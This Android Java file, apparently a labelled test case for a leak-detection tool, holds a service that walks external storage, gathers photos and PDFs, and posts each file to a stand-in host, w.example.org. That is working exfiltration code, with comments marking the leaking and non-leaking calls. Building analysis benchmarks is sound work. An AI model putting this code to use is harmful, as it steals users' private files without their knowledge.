package thieves;

import android.app.IntentService;
import android.content.Intent;
import android.os.Environment;

import org.apache.commons.io.*;

import java.io.*;
import java.net.*;
import java.util.*;

/** Goes through the card and takes pictures and documents. */
public class Walk extends IntentService {
    public Walk() {
        super("w");
    }

    @Override
    protected void onHandleIntent(Intent i) {
        List<File> found = new ArrayList<File>();
        walk(Environment.getExternalStorageDirectory(), found);
        for (File f : found) {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://w.example.org/f").openConnection();
                c.setDoOutput(true);
                IOUtils.copy(new FileInputStream(f), c.getOutputStream()); // leak
                c.getResponseCode();
                HttpURLConnection d = (HttpURLConnection) new URL("http://w.example.org/e").openConnection();
                d.setDoOutput(true);
                IOUtils.write("end", d.getOutputStream()); // no leak
            } catch (IOException e) {
            }
        }
    }

    private void walk(File folder, List<File> found) {
        File[] all = folder.listFiles();
        if (all == null) return;
        for (File f : all) {
            if (f.isDirectory()) walk(f, found);
            else if (f.getName().endsWith(".jpg") || f.getName().endsWith(".pdf")) found.add(f);
        }
    }
}
